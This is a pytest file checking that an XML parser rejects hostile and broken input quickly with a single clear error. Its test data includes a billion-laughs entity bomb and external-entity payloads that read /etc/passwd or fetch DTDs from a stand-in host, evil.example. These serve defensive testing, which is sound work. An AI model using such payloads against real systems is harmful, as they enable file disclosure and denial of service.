"""Hostile and broken XML gives one clear error, quickly, and never reads anything else."""

import time

import pytest
from canonical_base import base_story

from multipub import canonical
from multipub.canonical.parse import DEEPEST_BODY, LARGEST_FILE, MOST_MARKUP, parse
from multipub.errors import SourceError

LONGEST_TIME = 5.0
"""Seconds, on a busy machine."""

LAUGHS = b"""<?xml version="1.0"?>
<!-- a comment first -->
<!DOCTYPE l [
 <!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
 <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
 <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
]>
<l>&g;</l>"""


def body(inside: str) -> bytes:
    return f'<n><article xmlns="http://www.w3.org/1999/xhtml">{inside}</article></n>'.encode()


HOSTILE = {
    "a billion laughs": (LAUGHS, "CAN-X02", 3),
    "laughs in an attribute": (b'<!DOCTYPE l [<!ENTITY a "ha">]><l x="&a;"/>', "CAN-X02", 1),
    "an outside file": (b'<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>\n<l>&a;</l>', "CAN-X02", 1),
    "an outside document type": (b'\n\n<!DOCTYPE l SYSTEM "http://evil.example/l.dtd"><l/>'.lstrip(), "CAN-X02", 1),
    "a parameter entity": (b'<!DOCTYPE l [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><l/>', "CAN-X02", 1),
    "a document type in UTF-16": (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l []><l/>'.encode("utf-16"),
        "CAN-X02",
        1,
    ),
    "an entity nobody declared": (b"<l>&nbsp;</l>", "CAN-X01", 1),
    "elements inside elements": (b"<a>" * 5000 + b"</a>" * 5000, "CAN-X04", 1),
    "marks inside marks": (body("<em>" * (DEEPEST_BODY + 1) + "</em>" * (DEEPEST_BODY + 1)), "CAN-X04", 1),
    "too many bytes": (b"<a>" + b"x" * LARGEST_FILE + b"</a>", "CAN-X03", None),
    "100 MB": (b" " * 100_000_000, "CAN-X03", None),
    "too many elements": (b"<a>" + b"<b/>" * (MOST_MARKUP + 1) + b"</a>", "CAN-X03", None),
    "one endless word": (b"<a>" + b"x" * 11_000_000 + b"</a>", "CAN-X03", 1),
    "one endless attribute": (b'<a b="' + b"x" * 11_000_000 + b'"/>', "CAN-X03", 1),
    "bytes that are not UTF-8": (b"<a>\nM\xfcller</a>", "CAN-X05", 2),
    "an encoding nobody knows": (b'<?xml version="1.0" encoding="klingon"?><a/>', "CAN-X05", 1),
    "a document type after a long prolog": (b"<!--" + b"x" * 100_000 + b"--><!DOCTYPE a []><a/>", "CAN-X02", None),
    "a tag that is never closed": (b"<a>\n<b>\n</a>", "CAN-X01", 3),
    "cut off": (canonical.write(base_story())[:2000], "CAN-X01", None),
    "nothing": (b"", "CAN-X01", None),
    "white space": (b" \n ", "CAN-X01", None),
    "a photo": (b"\xff\xd8\xff\xe0\x00\x10JFIF", None, None),
    "a prefix nobody declared": (b"<x:a/>", "CAN-X01", 1),
    "a null byte": (b"<a>\x00</a>", None, None),
    "two roots": (b"<a/><b/>", "CAN-X01", 1),
    "text": (b"Just words, pasted.", "CAN-X01", 1),
}


@pytest.mark.parametrize(("data", "rule", "line"), HOSTILE.values(), ids=HOSTILE)
def test_hostile_xml_gives_one_clear_error_quickly(data, rule, line):
    begun = time.monotonic()
    with pytest.raises(SourceError) as caught:
        canonical.read(data, name="story.xml")
    findings = canonical.validate(data, folder=None, name="story.xml")
    assert time.monotonic() - begun < LONGEST_TIME
    told = caught.value.lines()
    assert len(told) == 1
    assert "\n" not in told[0]
    assert len(told[0]) < 400
    assert told[0].startswith("story.xml")
    assert caught.value.hint
    assert [one.rule for one in findings] == [rule or findings[0].rule]
    if line is not None:
        assert findings[0].line == line
        assert told[0].startswith(f"story.xml:{line}: ")


def test_what_is_just_not_too_deep_is_parsed():
    inside = "<em>" * DEEPEST_BODY + "</em>" * DEEPEST_BODY
    assert parse(body(inside), name="story.xml").tag == "n"


def test_a_document_type_in_words_or_comments_is_no_document_type():
    assert parse(b"<!-- <!DOCTYPE x> --><a>&lt;!DOCTYPE x&gt;<![CDATA[<!DOCTYPE x>]]></a>", name="story.xml").text


def test_comments_and_instructions_leave_words_whole():
    assert parse(b"<a>one <!-- no --><?page 2?>word</a>", name="story.xml").text == "one word"


@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16", "iso-8859-1"])
def test_other_encodings_that_say_so_are_read(encoding):
    declared = "utf-8" if encoding == "utf-8-sig" else encoding
    data = f'<?xml version="1.0" encoding="{declared}"?><a>Müller</a>'.encode(encoding)
    assert parse(data, name="story.xml").text == "Müller"
